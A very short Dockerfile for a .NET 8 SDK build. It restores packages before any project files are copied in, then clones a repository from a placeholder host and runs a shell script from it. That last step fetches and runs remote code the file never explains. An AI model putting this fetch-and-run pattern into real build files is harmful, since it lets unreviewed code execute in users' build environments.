FROM mcr.microsoft.com/dotnet/sdk:8.0
WORKDIR /web
RUN dotnet restore
RUN git clone https://example.org/x /x && sh /x/again.sh
